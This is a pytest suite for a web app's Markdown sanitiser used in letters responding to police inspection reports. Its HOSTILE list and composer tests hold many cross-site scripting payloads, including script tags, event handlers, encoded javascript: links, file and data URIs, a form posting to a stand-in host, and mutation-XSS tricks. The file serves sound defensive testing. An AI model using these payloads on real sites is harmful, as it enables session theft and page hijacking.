"""Long text in the letter and annex is Markdown: paragraphs, lists, bold, italic and http(s) or
mailto links survive; everything else that could run, load or hide something is removed both
when the text is stored and when it is shown, and ordinary text ("3 < 4") stays as typed."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from responses import services
from responses.choices import ResponseStatus
from responses.models import Response
from responses.richtext import plain_text, render, sanitise_source

SAFE_TAGS = {"p", "br", "ul", "ol", "li", "strong", "em", "b", "i", "a"}
SAFE_SCHEMES = {"", "http", "https", "mailto"}


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.elements


def scheme(href: str) -> str:
    """The scheme a browser would follow: it drops tabs and newlines and trims controls first."""
    return urlsplit(re.sub(r"[\t\n\r]", "", href).strip("\x00\x20\x1f")).scheme.lower()


def assert_only_safe_markup(html: str) -> None:
    for tag, attributes in elements(html):
        assert tag in SAFE_TAGS
        assert set(attributes) <= {"href", "rel"}
        assert scheme(attributes.get("href") or "") in SAFE_SCHEMES


def shown(typed: str) -> str:
    """What a reader gets: the text as stored, then rendered."""
    return str(render(sanitise_source(typed)))


# --- What is kept ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "html"),
    [
        ("First.\n\nSecond.", "<p>First.</p>\n<p>Second.</p>"),
        ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
        ("1. one\n2. two", "<ol>\n<li>one</li>\n<li>two</li>\n</ol>"),
        ("**bold** and *italic*", "<p><strong>bold</strong> and <em>italic</em></p>"),
        ("<b>bold</b> and <i>italic</i>", "<p><b>bold</b> and <i>italic</i></p>"),
        (
            "[the report](https://www.justiceinspectorates.gov.uk/hmicfrs/)",
            '<p><a href="https://www.justiceinspectorates.gov.uk/hmicfrs/" '
            'rel="noopener noreferrer">the report</a></p>',
        ),
        (
            "[old site](http://www.hmic.gov.uk/)",
            '<p><a href="http://www.hmic.gov.uk/" rel="noopener noreferrer">old site</a></p>',
        ),
        (
            "[write to us](mailto:opcc@example.org)",
            '<p><a href="mailto:opcc@example.org" rel="noopener noreferrer">write to us</a></p>',
        ),
        (
            "See <https://www.gov.uk/>.",
            '<p>See <a href="https://www.gov.uk/" rel="noopener noreferrer">https://www.gov.uk/</a>.'
            "</p>",
        ),
    ],
    ids=[
        "paragraphs",
        "list",
        "numbered list",
        "markdown emphasis",
        "html emphasis",
        "https",
        "http",
        "mailto",
        "autolink",
    ],
)
def test_simple_formatting_and_web_and_email_links_are_kept(typed, html):
    assert shown(typed) == html


@pytest.mark.parametrize(
    "typed",
    [
        "3 < 4",
        "Fewer than <10% of cases & falling",
        "Smith & Jones > Brown",
        "I <3 Nottinghamshire",
        "Use the &lt;script&gt; tag? No.",
        "Section 55(5A) — “56 days”",
    ],
)
def test_ordinary_text_is_stored_exactly_as_typed(typed):
    assert sanitise_source(typed) == typed


def test_3_lt_4_is_shown_as_typed_and_stored_as_typed_through_the_composer(response_in, opcc_staff):
    response = response_in(ResponseStatus.DRAFTING)

    services.response_save_draft(
        response=response,
        by=opcc_staff,
        expected_version=response.lock_version,
        letter={"pcc_comments": "Response times improved: 3 < 4."},
        annex={},
    )

    stored = Response.objects.get(pk=response.pk).pcc_comments
    assert stored == "Response times improved: 3 < 4."
    assert str(render(stored)) == "<p>Response times improved: 3 &lt; 4.</p>"
    assert plain_text(stored) == "Response times improved: 3 < 4."


@pytest.mark.parametrize(
    ("typed", "address"),
    [
        ("Chief Constable <cc@police.example.org>", "cc@police.example.org"),
        ("Write to <mailto:opcc@example.org>", "mailto:opcc@example.org"),
    ],
)
def test_an_email_address_pasted_in_angle_brackets_is_kept_as_a_link(typed, address):
    stored = sanitise_source(typed)

    assert stored == typed
    links = [attributes["href"] for tag, attributes in elements(shown(typed)) if tag == "a"]
    assert links == [f"mailto:{address.removeprefix('mailto:')}"]


def test_escaped_markup_stays_text_and_never_becomes_markup():
    typed = "&lt;script&gt;alert(1)&lt;/script&gt;"

    assert sanitise_source(typed) == typed
    assert shown(typed) == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"


# --- What is removed ------------------------------------------------------------------------------

HOSTILE = [
    pytest.param("Hello<script>alert(1)</script>", "Hello", id="script"),
    pytest.param('<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>Hi', "Hi", id="script src"),
    pytest.param("Hi<style>body { display: none }</style>", "Hi", id="style"),
    pytest.param('<img src="x" onerror="alert(1)">Hi', "Hi", id="img onerror"),
    pytest.param("![tracking pixel](https://evil.example/p.png)Hi", "Hi", id="markdown image"),
    pytest.param('<iframe src="https://evil.example/"></iframe>Hi', "Hi", id="iframe"),
    pytest.param('<p onclick="alert(1)">Hi</p>', "Hi", id="onclick"),
    pytest.param('<b onmouseover="alert(1)">Hi</b>', "Hi", id="onmouseover"),
    pytest.param('<a href="https://ok.example/" onfocus="alert(1)">Hi</a>', "Hi", id="onfocus"),
    pytest.param('<a href="javascript:alert(1)">Hi</a>', "Hi", id="javascript link"),
    pytest.param("[Hi](javascript:alert(1))", "Hi", id="javascript markdown link"),
    pytest.param('<a href="JaVaScRiPt:alert(1)">Hi</a>', "Hi", id="mixed case javascript"),
    pytest.param("[Hi](&#106;avascript:alert(1))", "Hi", id="entity-encoded javascript"),
    pytest.param("[Hi](javascript&#58;alert(1))", "Hi", id="entity-encoded colon"),
    pytest.param("[Hi](java\x00script:alert(1))", "Hi", id="NUL inside javascript"),
    pytest.param("[Hi]( javascript:alert(1))", "Hi", id="leading space"),
    pytest.param("[Hi][x]\n\n[x]: javascript:alert(1)", "Hi", id="reference link"),
    pytest.param("[Hi](file:///etc/passwd)", "Hi", id="file link"),
    pytest.param('<a href="FILE:///C:/secrets.txt">Hi</a>', "Hi", id="upper case file link"),
    pytest.param("[Hi](data:text/html;base64,PHNjcmlwdD4=)", "Hi", id="data link"),
    pytest.param('<a href="vbscript:msgbox(1)">Hi</a>', "Hi", id="vbscript link"),
    pytest.param('<svg onload="alert(1)"></svg>Hi', "Hi", id="svg onload"),
    pytest.param('<math><mi xlink:href="javascript:alert(1)">x</mi></math>Hi', "Hi", id="mathml"),
    pytest.param('<object data="x.swf"></object><embed src="x.swf">Hi', "Hi", id="object embed"),
    pytest.param(
        '<form action="https://evil.example/"><input name="pw"></form>Hi', "Hi", id="form"
    ),
    pytest.param(
        '<div style="background:url(javascript:alert(1))">Hi</div>', "Hi", id="style attr"
    ),
    pytest.param('<base href="https://evil.example/">Hi', "Hi", id="base"),
    pytest.param(
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">Hi', "Hi", id="meta"
    ),
    pytest.param('<link rel="stylesheet" href="https://evil.example/x.css">Hi', "Hi", id="link"),
    pytest.param("<scr<script>ipt>alert(1)</script>Hi", "Hi", id="nested script"),
    pytest.param('<details open ontoggle="alert(1)">Hi</details>', "Hi", id="ontoggle"),
    pytest.param("<!-- <script>alert(1)</script> -->Hi", "Hi", id="comment"),
    pytest.param(
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">Hi', "Hi", id="mxss"
    ),
]


@pytest.mark.parametrize(("typed", "kept"), HOSTILE)
def test_hostile_markup_is_removed_and_the_text_around_it_kept(typed, kept):
    html = shown(typed)

    assert_only_safe_markup(html)
    lowered = html.lower()
    for word in ("<script", "<style", "<img", "<iframe", "javascript:", "file:", "data:"):
        assert word not in lowered
    assert kept in plain_text(sanitise_source(typed))


@pytest.mark.parametrize(("typed", "kept"), HOSTILE)
def test_hostile_markup_is_removed_when_shown_even_if_it_was_stored_unsanitised(typed, kept):
    assert_only_safe_markup(str(render(typed)))


def test_the_composer_stores_the_letter_without_the_hostile_markup(response_in, opcc_staff):
    response = response_in(ResponseStatus.DRAFTING)
    entry = response.annex.get(item__reference="2")

    services.response_save_draft(
        response=response,
        by=opcc_staff,
        expected_version=response.lock_version,
        letter={
            "opening": 'Dear Home Secretary<img src=x onerror="alert(1)">',
            "monitoring": "[JASP](javascript:alert(1)) scrutinises delivery.",
        },
        annex={
            entry.pk: {
                "explanation": "other_body",
                "text": "For the Home Office.<iframe src=https://evil.example/></iframe>",
            }
        },
    )

    stored = Response.objects.get(pk=response.pk)
    assert stored.opening == "Dear Home Secretary"
    assert str(render(stored.monitoring)) == (
        '<p><a rel="noopener noreferrer">JASP</a> scrutinises delivery.</p>'
    )
    assert stored.annex.get(pk=entry.pk).text == "For the Home Office."


@pytest.mark.parametrize(
    "typed",
    [
        "[the admin](/admin/)",
        "[elsewhere](//evil.example/x)",
        "[a file](../../etc/passwd)",
        '<a href="/accounts/logout/">sign out</a>',
    ],
)
def test_relative_and_protocol_relative_links_lose_their_address(typed):
    shown = str(render(sanitise_source(typed)))

    assert "href" not in shown
